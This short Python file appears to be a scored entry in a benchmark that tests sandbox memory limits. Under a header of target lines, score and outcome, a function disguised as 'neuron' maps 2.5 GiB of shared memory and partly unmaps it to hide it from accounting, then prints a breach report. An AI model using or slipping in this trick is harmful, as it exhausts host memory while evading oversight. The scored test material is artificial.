# /// attack
# lines = [23, 37]
# tries = "Unmaps shared memory but for a page of each piece, under a name of its own: all of it stays, and nothing maps it."
# score = 18
# outcomes = { "1.2" = "out of memory" }
# ///
import ctypes
import time


def neuron(x, w, b, f):
    name = ctypes.create_string_buffer(b"mine")
    for _ in range(40):
        start = system_call("mmap", 0, 2**26, 3, 0x21, -1, 0)
        try:
            system_call("prctl", 0x53564D41, 0, start, 2**26, ctypes.addressof(name))
        except OSError:
            pass  # not every kernel has names for memory
        ctypes.memset(start, 1, 2**26)
        system_call("munmap", start + 4096, 2**26 - 4096)
    time.sleep(1)
    print("ATTACK attempts=1 breached=['2560 MiB that nothing maps'] broken=[]", flush=True)
